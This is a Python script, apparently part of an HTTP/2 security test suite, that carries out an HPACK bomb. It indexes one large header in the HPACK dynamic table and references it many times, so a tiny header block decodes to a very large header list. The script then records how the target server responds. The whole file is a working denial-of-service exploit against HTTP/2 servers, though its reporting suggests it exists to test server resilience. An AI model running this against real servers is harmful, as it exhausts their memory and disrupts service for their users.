"""HPACK bomb: a small header block that decodes to a huge header list.

usage: h2_hpack_bomb.py PORT REPEATS [--value-bytes N]

One literal header field of N bytes (default 4000) is added to the HPACK
dynamic table, then referenced REPEATS more times by its one- or
two-byte index: the block stays a few KiB while the decoded list is
REPEATS x N bytes. Sent through `h2` (which does the indexing itself);
then reads what the server answers. Prints a JSON report with
`encoded_bytes` and `decoded_bytes`.
"""

import argparse
import time

import hpack

from h2_common import Attacker


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("repeats", type=int)
    parser.add_argument("--value-bytes", type=int, default=4000)
    args = parser.parse_args()

    attacker = Attacker(args.port)
    attacker.poll(wait=1.0)
    bomb = ("x-bomb", "b" * args.value_bytes)
    headers = attacker.request_headers("/hpack-bomb", [bomb] * (1 + args.repeats))
    encoded = len(hpack.Encoder().encode(headers))
    decoded = sum(len(k) + len(v) + 32 for k, v in headers)
    stream_id = attacker.conn.get_next_available_stream_id()
    attacker.conn.send_headers(stream_id, headers, end_stream=True)
    started = time.monotonic()
    attacker.flush()
    # Read until the stream is answered or the connection is gone.
    deadline = time.monotonic() + 20.0
    while (
        not attacker.gone
        and attacker.goaway is None
        and stream_id not in attacker.responses
        and stream_id not in attacker.resets
        and time.monotonic() < deadline
    ):
        attacker.poll(wait=0.2)
    seconds = round(time.monotonic() - started, 3)
    # A GOAWAY is followed by the close, which may come in a later read:
    # wait for it as the flood scripts do.
    if attacker.goaway is not None:
        attacker.wait_closed(limit=20.0)
    attacker.report(
        stream_id=stream_id,
        encoded_bytes=encoded,
        decoded_bytes=decoded,
        seconds=seconds,
    )


if __name__ == "__main__":
    main()
